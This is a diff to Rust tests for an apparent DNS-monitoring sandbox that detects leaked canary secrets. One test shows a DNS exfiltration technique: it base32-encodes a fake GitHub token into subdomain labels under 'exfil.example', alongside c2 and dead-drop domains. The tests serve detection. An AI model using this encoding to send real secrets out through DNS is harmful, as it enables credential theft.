@@ -58,6 +58,7 @@ fn in_the_other_pass_nonsense_does_not_exist() {
     let only = || World { names: Names::OnlyPlausible { also: vec!["c2.example".into()] }, ..world() };
     check(only(), "kq3vx9zj2.example", 1, "3 ");
     check(only(), "sub.c2.example", 28, &format!("0 {}", ask(&Bed::new(), "sub.c2.example", 28).1[0]));
+    assert_eq!(ask(&Bed::with(only()), crate::DEAD_DROP, 1).0, 0);
     assert_eq!(ask(&Bed::with(only()), "api.github.com", 1).0, 0);
     assert_eq!(ask(&Bed::with(only()), "notgithub.com", 1).0, 3);
 }
@@ -74,7 +75,9 @@ fn canaries_in_labels_are_put_together() {
     }
     bed.check("canary file-aws-secret Labels");
     let bed = Bed::new();
-    let text = data_encoding::BASE32_NOPAD.encode(bed.shared.world.canaries.get("env-github-token").as_bytes()).to_lowercase();
+    let text = data_encoding::BASE32_NOPAD
+        .encode(bed.shared.world.canaries.get("env-github-token").as_bytes())
+        .to_lowercase();
     let (one, two) = text.split_at(40);
     ask(&bed, &format!("{one}.{two}.exfil.example"), 16);
     bed.check("canary env-github-token Labels");
@@ -101,7 +104,10 @@ fn it_comes_over_everything() {
     bed.says("8.8.8.8:80", &[(json.as_bytes(), "2606:4700")]);
     bed.check("dns json.example 28");
     let over: Vec<String> = bed.told().into_iter().filter(|line| line.starts_with("dns over")).collect();
-    assert!(over.iter().any(|line| line.ends_with("tcp")) && over.iter().any(|line| line.ends_with("https")), "{over:?}");
+    assert!(
+        over.iter().any(|line| line.ends_with("tcp")) && over.iter().any(|line| line.ends_with("https")),
+        "{over:?}"
+    );
 }
 
 #[test]
